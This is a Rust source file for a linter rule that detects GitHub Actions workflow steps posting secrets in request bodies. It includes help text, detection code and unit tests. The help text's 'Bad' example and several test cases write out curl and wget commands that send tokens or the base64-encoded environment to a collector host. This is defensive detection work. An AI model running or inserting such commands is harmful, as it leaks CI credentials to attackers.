//! A secret in the body of a request.

use super::prelude::*;

pub(crate) static RULE: Rule = Rule {
    id: "config/github-secret-sent",
    title: "a secret is sent to a server as data",
    severity: Severity::High,
    help: "\
Workflows that thieves push into repositories look like this: a step posts secrets to their server, sometimes behind a manual
trigger that waits for months. If this step is yours, send the secret in the header that the service asks for; if it is not,
remove it, look through the history of the file, and replace every secret that it could reach.

Bad:

```yaml
on: workflow_dispatch
permissions: {}
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: curl -X POST -d \"token=$NPM\" https://collect.example.com
        env:
          NPM: ${{ secrets.NPM_TOKEN }}
```

Good:

```yaml
on: workflow_dispatch
permissions: {}
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: 'curl -H \"Authorization: Bearer $NPM\" https://registry.example.com'
        env:
          NPM: ${{ secrets.NPM_TOKEN }}
```",
    references: &["https://www.stepsecurity.io/blog/ghostaction-campaign-over-3-000-secrets-stolen-through-malicious-github-workflows", "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution"],
};

use crate::{pipelines, shell::Command};

pub(crate) fn check(workflow: &Workflow<'_>, found: &mut Found<'_>) {
    for (job, step) in workflow.steps() {
        let script = step.run().and_then(|run| pipelines::script(workflow.source, run));
        let Some(script) = script else { continue };
        let names = secret_variables(workflow, job, step);
        for command in script.commands(workflow.source) {
            if let Some(data) = sent(&command).find(|data| holds_secret(data, &names)) {
                let place = command.span();
                found
                    .at(workflow.source, &place, "a secret is posted to a server as data")
                    .identity(data)
                    .subject(job.name)
                    .fix("if this is not yours, remove it and replace every secret; else use the header of the service");
            }
        }
    }
}

/// Variables of the step, its job and the workflow that hold secrets.
fn secret_variables<'a>(workflow: &Workflow<'a>, job: &Job<'a>, step: &Step<'a>) -> Vec<&'a str> {
    let environments = [step.node, job.node, workflow.root].into_iter().filter_map(|node| node.get("env"));
    let entries = environments.flat_map(|environment| environment.entries());
    entries.filter(|(_, value)| value.text().is_some_and(|text| text.contains("secrets."))).map(|(key, _)| key.text.as_str()).collect()
}

/// What the command sends as data.
fn sent(command: &Command) -> impl Iterator<Item = &str> {
    let flags: &'static [&'static str] = match command.program() {
        "curl" => &["-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "-F", "--form", "--json"],
        "wget" => &["--post-data", "--body-data"],
        _ => &[],
    };
    let words = command.arguments();
    words.iter().enumerate().filter_map(move |(index, word)| {
        let flag = word.text.split_once('=').filter(|(flag, _)| flag.starts_with("--"));
        match flag {
            Some((flag, value)) => flags.contains(&flag).then_some(value),
            None if flags.contains(&word.text.as_str()) => words.get(index + 1).map(|next| next.text.as_str()),
            None => None,
        }
    })
}

fn holds_secret(data: &str, names: &[&str]) -> bool {
    let variable = |name: &&str| {
        data.match_indices('$').any(|(at, _)| {
            let rest = data[at + 1..].trim_start_matches('{');
            rest.strip_prefix(*name).is_some_and(|rest| !rest.starts_with(|char: char| char == '_' || char.is_ascii_alphanumeric()))
        })
    };
    data.contains("secrets.") || data.contains("$(env") || data.contains("$(printenv") || names.iter().any(variable)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn running(script: &str) -> String {
        format!("on: push\nenv:\n  A: ${{{{ secrets.A }}}}\njobs:\n  a:\n    steps:\n      - run: {script}\n")
    }

    #[test]
    fn fires_on_secrets_in_bodies() {
        for script in ["curl -d a=$A https://b", "curl --data=${{ secrets.B }} https://b", "wget --post-data=\"${A}\" https://b", "curl -d \"$(env | base64)\" https://b"] {
            fires_on(&RULE, WORKFLOW, &running(script), &["7:14"]);
        }
    }

    #[test]
    fn is_silent_on_headers_and_on_other_data() {
        for script in ["curl -u x:$A https://b", "curl -d a=$ABC https://b", "echo -d $A"] {
            is_silent_on(&RULE, WORKFLOW, &running(script));
        }
    }
}
